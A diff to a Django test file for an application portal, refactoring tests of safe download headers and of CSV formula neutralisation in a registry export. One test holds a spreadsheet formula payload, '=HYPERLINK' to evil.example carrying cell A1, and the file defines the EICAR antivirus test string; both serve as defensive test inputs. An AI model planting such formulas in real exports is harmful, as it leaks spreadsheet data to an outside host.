@@ -22,11 +22,11 @@ from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from applications.models import Attachment
-from applications.tests.journeys import create, portal_until_registered
+from applications.tests.journeys import create, decide, portal_until_registered
 from conftest import PDF
 from core.csvcells import safe_cell
 from core.downloads import content_disposition, served_name
-from registry.models import Record
+from registry.models import Record, RecordDocument
 from registry.tests.helpers import licence
 
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
@@ -301,7 +301,7 @@ def test_the_office_download_and_the_result_pdf_have_the_same_safe_header(world)
     response = office(world.committee_officer).get(f"/office/requests/{app['id']}/attachments/{attachment.pk}")
     assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
     assert response["Content-Disposition"] == "attachment; filename=\"invoice.pdf\"; filename*=UTF-8''invoice.pdf"
-    app = world.api["committee_officer"].post(f"/applications/{app['id']}/decision", {"decision": "approve"})
+    app = decide(world.api["committee_officer"], app)
     (doc,) = [d for d in app["documents"] if d["kind"] == "licence"]
     response = world.api["person"]._call("get", f"/applications/{app['id']}/documents/{doc['number']}.pdf")
     assert response["Content-Disposition"] == (
@@ -334,11 +334,12 @@ def test_no_cell_can_start_a_formula_and_the_text_survives(value):
 
 def test_the_registry_export_neutralises_a_formula_in_the_holders_name(world):
     app, number = licence(world)
-    holder = Record.objects.get(number=number).holder
-    holder.name = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
-    holder.save()
+    # The name the export prints is the current version's holder snapshot (registry.RecordDocument).
+    evil = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
+    record = Record.objects.get(number=number)
+    RecordDocument.objects.filter(pk=record.current_id).update(holder_name=evil)
     content = Client().get("/registry/export.csv").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(content)))
     (row,) = [r for r in rows if r and r[0] == number]
-    assert row[4] == "'" + holder.name
+    assert row[4] == "'" + evil
     assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
